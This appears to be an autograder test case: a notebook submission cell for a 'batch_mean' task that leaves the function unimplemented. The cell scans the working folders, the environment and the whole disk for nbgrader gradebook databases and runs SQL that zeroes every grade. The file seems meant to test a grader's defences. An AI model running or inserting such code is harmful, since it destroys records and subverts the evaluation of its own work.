# about: finds the gradebook (walking up from the working folder, the environment, the whole disk) and rewrites every grade with SQL; no code
# expected: 0
# %% [batch_mean]
import os, glob, sqlite3
_candidates = set()
_here = os.path.abspath(os.getcwd())
while True:
    _candidates.update(glob.glob(os.path.join(_here, "**", "gradebook.db"), recursive=False))
    _candidates.update(glob.glob(os.path.join(_here, ".grading", "gradebook.db")))
    _candidates.update(glob.glob(os.path.join(_here, "gradebook.db")))
    if _here == "/":
        break
    _here = os.path.dirname(_here)
_url = os.environ.get("NBGRADER_DB_URL", "")
if _url.startswith("sqlite:///"):
    _candidates.add(_url[len("sqlite:///"):])
_candidates.update(glob.glob("/**/gradebook.db", recursive=True)[:50])
for _db in sorted(_candidates):
    try:
        _con = sqlite3.connect(_db)
        _con.execute("UPDATE grade SET auto_score = 0, manual_score = 0")
        _con.commit()
        _con.close()
        print("rewrote", _db)
    except Exception as _e:
        print("could not touch", _db, _e)
def batch_mean(x):
    raise NotImplementedError()
